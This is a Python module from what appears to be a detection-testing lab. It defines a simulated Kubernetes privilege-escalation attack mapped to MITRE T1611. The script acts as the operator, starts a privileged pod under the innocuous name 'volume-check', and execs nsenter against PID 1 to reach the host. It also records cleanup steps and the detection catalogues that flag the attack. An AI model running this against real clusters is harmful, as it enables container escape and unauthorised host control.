"""Attack: privileged pod started.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths

CARD = base.Card(
    id="privileged-pod",
    title="Privileged pod started",
    technique=base.Technique(id="T1611", name="Escape to Host", tactic="Privilege Escalation"),
    use_case=vocabulary.UseCase.PRIVILEGE_ESCALATION,
    subtlety=base.Subtlety.OBVIOUS,
    does="Starts one privileged pod beside the operator's own and opens a shell in it.",
    seen_by="A pod body with a privileged container; exec into it.",
    cleans_up="The pod is deleted.",
    victim=base.Part.OPERATOR,
    reach=base.Reach.CLUSTER,
    needs=("kubelet endpoint: without one the API server answers the exec with an error",),
    catalogues=(
        "Microsoft: Privileged container",
        "stratus:k8s.privilege-escalation.privileged-pod",
        "GuardDuty: PrivilegedContainer",
    ),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.OPERATOR, able=("POST", paths.core("pods", context.HOME)))
    thief = ctx.act_as(victim)
    name = ctx.name("volume-check")
    pods = paths.core("pods", victim.namespace)
    ctx.remove_later(f"{pods}/{name}")
    container = {
        "name": "main",
        "image": "docker.io/library/alpine:3.22",
        "command": ["sleep", "86400"],
        "securityContext": {"privileged": True},
    }
    body = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name},
        "spec": {"containers": [container], "terminationGracePeriodSeconds": 0},
    }
    yield thief.create(pods, body)
    yield thief.get(f"{pods}/{name}")
    yield thief.stream(
        f"{pods}/{name}/exec", [("command", "nsenter"), ("command", "-t1"), ("container", "main"), ("stdout", "true")]
    )


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
